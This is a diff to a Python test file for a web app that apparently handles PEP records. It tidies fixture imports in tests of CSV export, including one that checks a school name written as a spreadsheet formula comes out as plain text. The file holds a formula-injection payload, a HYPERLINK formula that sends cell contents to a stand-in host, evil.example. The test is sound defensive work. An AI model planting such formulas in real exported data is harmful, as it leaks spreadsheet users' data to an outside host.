@@ -13,7 +13,7 @@ from pepflow.db.connection import session_scope
 from pepflow.db.models import School
 from pepflow.spreadsheets import safe_cell, stream
 
-from .test_web import fresh_site, signed_in_client  # noqa: F401  (fixture)
+from .support.web import signed_in_client
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
@@ -33,7 +33,7 @@ def test_a_download_is_written_a_chunk_at_a_time():
     assert len(pieces) == 3 and "".join(pieces).count("\n") == 2501
 
 
-def test_a_school_named_as_a_formula_reaches_the_overdue_peps_csv_as_text(fresh_site):  # noqa: F811
+def test_a_school_named_as_a_formula_reaches_the_overdue_peps_csv_as_text(fresh_site):
     with session_scope(fresh_site.app.engine) as s:
         s.execute(update(School).values(name=ATTACK))
     response = signed_in_client(fresh_site, "vs_admin").get("/peps/overdue?format=csv")
